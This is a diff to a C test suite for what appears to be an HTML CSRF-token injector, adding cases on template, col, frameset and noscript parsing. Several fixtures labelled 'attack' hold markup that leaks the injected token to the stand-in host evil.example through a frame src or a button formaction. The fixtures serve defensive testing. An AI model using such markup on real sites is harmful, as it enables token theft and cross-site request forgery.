@@ -358,6 +358,33 @@ static const row rows[] = {
     {"attack svg form end", EF "<svg><form></form></svg>" RF, EF "<svg><form></form></svg>" RF, 0},
     {"attack template form end", EF "<template></form></template>" RF, EF "<template></form></template>" RF, 0},
     {"attack cdata form end", EF "<svg><![CDATA[x></form>]]></svg>" RF, EF "<svg><![CDATA[x></form>]]></svg>" RF, 0},
+    /* template contents whose first start tag is <col>: "in column group"
+     * with the template current, where <title> or <noembed> starts no raw
+     * text (a reader that takes it for one misses what follows): the
+     * model stops at such a <col>; a <col> after the contents' mode was
+     * picked by another tag is ignored as before */
+    {"template col first", "<template><col><title></template>" RF CL, "<template><col><title></template>" RF CL, 0},
+    {"template col after head tags", "<template><script></script><template></template><col></template>" RF CL,
+     "<template><script></script><template></template><col></template>" RF CL, 0},
+    {"template nested col", "<template><td><template><col></template></template>" RF CL,
+     "<template><td><template><col></template></template>" RF CL, 0},
+    {"template table col", "<template><table><colgroup><col></table></template>" RF CL,
+     "<template><table><colgroup><col></table></template>" RF IN CL, 1},
+    {"template row col", "<template><tr><col><title></title></template>" RF CL,
+     "<template><tr><col><title></title></template>" RF IN CL, 1},
+    {"template cell then nested", "<template><td><template></template><col></template>" RF CL,
+     "<template><td><template></template><col></template>" RF IN CL, 1},
+    /* a <frameset> the browser takes ("in frameset" ignores every start
+     * tag but frameset, frame and noframes): a <title> there starts no
+     * raw text, and a form the injector reads after it is text inside a
+     * <frame src> that sends it elsewhere; the model stops there */
+    {"attack frameset title frame", "<frameset><title><frame src='//evil.example/?</title>" RF CL "'>",
+     "<frameset><title><frame src='//evil.example/?</title>" RF CL "'>", 0},
+    /* a <div> and whitespace leave the frameset-ok flag set: the body goes */
+    {"attack div frameset textarea",
+     "<div class=a>\n<frameset><textarea><frame src='//evil.example/?</textarea>" RF CL "'>",
+     "<div class=a>\n<frameset><textarea><frame src='//evil.example/?</textarea>" RF CL "'>", 0},
+    {"template frameset", "<template><frameset></template>" RF CL, "<template><frameset></template>" RF IN CL, 1},
     {"attack noscript form", "<noscript>" EF "</noscript>" RF CL, "<noscript>" EF "</noscript>" RF CL, 0},
     {"attack iso-2022-jp escape", "\x1b$B<!--\x1b(B" RF "-->" CL, "\x1b$B<!--\x1b(B" RF "-->" CL, 0},
     {"attack base in svg breakout", "<svg><style><p><base href=\"https://evil.example/\"></style></svg>" RF CL,
@@ -1555,6 +1582,15 @@ static void test_status(void **state)
 	    {"<form id=f method=post><button form=f formmethod=get></form>", CSRF_INJECT_FORM_OWNER},
 	    {"a\x1b" RF, CSRF_INJECT_ESCAPE | CSRF_INJECT_STOPPED},
 	    {EF RF "</form><template>" RF, CSRF_INJECT_NESTED_FORM | CSRF_INJECT_TEMPLATE},
+	    {RF CL "<FRAMESET rows=*>",
+	     CSRF_INJECT_FRAMESET | CSRF_INJECT_STOPPED | CSRF_INJECT_LATE_BASE | CSRF_INJECT_LATE_BUTTON},
+	    /* without scripting the noscript's frameset is taken */
+	    {"<noscript><frameset></noscript>" RF CL, CSRF_INJECT_NOSCRIPT | CSRF_INJECT_STOPPED},
+	    /* the <title> is ignored there: the button is read, after a stop */
+	    {"<form id=f method=post action=/f></form><template><col><title></template>"
+	     "<button form=f formaction=\"https://evil.example/\">",
+	     CSRF_INJECT_LATE_OWNER | CSRF_INJECT_LATE_BUTTON | CSRF_INJECT_LATE_BASE | CSRF_INJECT_TEMPLATE |
+	         CSRF_INJECT_STOPPED},
 	    /* a button outside any form, after a form got the token: an
 	     * element left open in that form would make it the form's */
 	    {RF "<div></form><button formmethod=get>", CSRF_INJECT_LATE_BUTTON},
@@ -1634,13 +1670,13 @@ static void test_status(void **state)
 	assert_int_equal(csrf_inject_status(NULL), 0);
 	/* every bit has its own phrase */
 	size_t all = 0; /* an adapter's line with every phrase */
-	for (unsigned bit = 1; bit <= CSRF_INJECT_TABLE_FORM; bit <<= 1) {
+	for (unsigned bit = 1; bit <= CSRF_INJECT_FRAMESET; bit <<= 1) {
 		assert_string_not_equal(csrf_inject_status_str(bit), "unknown injector status");
 		all += strlen(csrf_inject_status_str(bit)) + 2;
 	}
 	assert_true(all < CSRF_INJECT_STATUS_TEXT_MAX);
 	assert_string_equal(csrf_inject_status_str(0), "unknown injector status");
-	assert_string_equal(csrf_inject_status_str(CSRF_INJECT_TABLE_FORM << 1), "unknown injector status");
+	assert_string_equal(csrf_inject_status_str(CSRF_INJECT_FRAMESET << 1), "unknown injector status");
 }
 
 /* A form longer than the hold gets no token, whatever the cuts; one that
